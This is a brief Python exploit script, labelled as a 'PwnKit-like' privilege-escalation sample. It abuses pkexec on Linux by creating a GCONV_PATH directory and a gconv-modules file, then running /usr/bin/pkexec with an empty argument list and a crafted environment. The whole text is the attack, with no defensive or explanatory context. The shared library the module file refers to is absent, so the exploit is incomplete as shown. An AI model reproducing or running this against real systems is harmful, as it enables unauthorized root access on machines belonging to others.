# class: privilege escalation, PwnKit-like; style: exploit by the book
import os, ctypes
os.makedirs("GCONV_PATH=.", exist_ok=True)
open("GCONV_PATH=./pwn", "w").close(); os.chmod("GCONV_PATH=./pwn", 0o755)
os.makedirs("pwn", exist_ok=True)
open("pwn/gconv-modules", "w").write("module UTF-8// PWN// pwn 2\n")
libc = ctypes.CDLL(None)
env = (ctypes.c_char_p * 5)(b"pwn", b"PATH=GCONV_PATH=.", b"CHARSET=PWN", b"SHELL=pwn", None)
libc.execve(b"/usr/bin/pkexec", (ctypes.c_char_p * 1)(None), env)
